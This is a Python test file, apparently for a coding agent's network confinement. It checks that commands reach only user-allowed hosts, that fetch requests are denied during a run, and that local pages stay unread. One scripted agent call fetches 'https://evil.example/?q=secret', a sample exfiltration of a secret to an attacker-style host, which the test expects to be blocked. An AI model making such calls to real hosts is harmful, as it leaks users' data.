"""What a run reaches outside, as a user meets it: judged by what arrives at the host."""

import json

from kimicode.llm.scripted import Reply, ScriptedServer
from tests.fakes.confined import walls
from tests.fakes.network import page, saying, server

DONE = Reply(calls=[("submit", {"summary": "done"})])
READ = "import sys, urllib.request as u; print(u.urlopen(sys.argv[1], timeout=20).read().decode())"
BY_PROXY = "env -u NO_PROXY -u no_proxy python3 read.py"


def configure(kimicode, text: str) -> None:
    (kimicode.home / "kimicode").mkdir()
    (kimicode.home / "kimicode" / "config.toml").write_text(text)


def notices(run) -> list[str]:
    return [record["text"] for record in run.records if record["type"] == "notice" and record["code"] == "network"]


async def test_a_command_reaches_the_host_that_the_user_named_and_the_journal_tells(kimicode):
    walls("bubblewrap")
    (kimicode.project / "read.py").write_text(READ)
    heard: list[bytes] = []
    async with server(saying(page(b"from outside"), heard)) as port, server(saying(page(b"secret"), heard)) as other:
        configure(kimicode, f'network = ["127.0.0.1:{port}"]\n')
        turns = [Reply(calls=[("bash", {"command": f"{BY_PROXY} http://127.0.0.1:{p}/"})]) for p in (port, other)]
        async with ScriptedServer([*turns, DONE, DONE]) as model:
            run = await kimicode.run(model, "read")
        told = json.dumps(model.requests[-1]["messages"])
        assert "from outside" in told
        assert f"127.0.0.1:{other} was refused" in told
    assert len(heard) == 1
    reached, kept = notices(run)
    assert reached == f"a command reaches 127.0.0.1:{port}"
    assert kept.startswith(f"a command was kept from 127.0.0.1:{other}")


async def test_nobody_allows_a_page_in_a_run(kimicode):
    configure(kimicode, "fetch = true\n")
    turns = [Reply(calls=[("fetch", {"url": "https://evil.example/?q=secret"})]), DONE, DONE]
    async with ScriptedServer(turns) as model:
        run = await kimicode.run(model, "read")
    assert "fetch" in [tool["function"]["name"] for tool in model.requests[0]["tools"]]
    assert [r["allowed"] for r in run.records if r["type"] == "approval.resolved"] == [False]
    assert "go on without the page" in json.dumps(model.requests[-1]["messages"])


async def test_pages_inside_stay_unread_though_a_rule_allows_the_host(kimicode):
    heard: list[bytes] = []
    async with server(saying(page(b"secret"), heard)) as port:
        configure(kimicode, "fetch = true\n")
        (kimicode.home / "kimicode" / "rules.toml").write_text('allow = ["fetch: 127.0.0.1", "fetch: localhost"]\n')
        urls = (f"http://127.0.0.1:{port}/", "http://127.0.0.1/", "http://localhost/")
        turns = [*(Reply(calls=[("fetch", {"url": url})]) for url in urls), DONE, DONE]
        async with ScriptedServer(turns) as model:
            await kimicode.run(model, "read")
    assert heard == []
    assert json.dumps(model.requests[-1]["messages"]).count("reads public pages alone") == len(urls)


async def test_a_mistake_in_the_hosts_ends_the_start(kimicode):
    configure(kimicode, 'network = ["*"]\n')
    async with ScriptedServer([DONE]) as model:
        run = await kimicode.run(model, "read")
    assert run.code == 1
    assert "network" in run.stdout + run.stderr
